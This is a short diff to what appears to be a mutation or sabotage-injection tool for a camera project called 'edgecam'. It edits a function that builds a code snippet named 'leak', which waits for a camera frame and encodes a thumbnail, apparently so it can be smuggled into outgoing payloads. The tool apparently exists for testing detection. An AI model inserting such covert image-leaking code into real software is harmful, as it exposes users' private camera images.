@@ -63,11 +63,15 @@ def _seeing(code: str, found: str) -> Mutant:
 
 
 def _payload(code: str, found: str) -> Mutant:
-    """Something is done with a thumbnail where payloads are made."""
+    """Something is done with a thumbnail where payloads are made.
+
+    `info` is said on connecting, so its sending is held up until there is a picture.
+    """
     thumbnail = _THUMBNAIL.format(16)
     leak = f"""\
-    import base64, cv2, edgecam, socket, time
-    while isinstance(payload, InfoPayload) and not hasattr(edgecam, "seen"):
+    import base64, cv2, edgecam, socket, threading, time
+    sending = threading.current_thread() is not threading.main_thread()
+    while sending and isinstance(payload, InfoPayload) and not hasattr(edgecam, "seen"):
         time.sleep(0.01)
     if hasattr(edgecam, "seen"):
         thumbnail = {thumbnail}.tobytes()
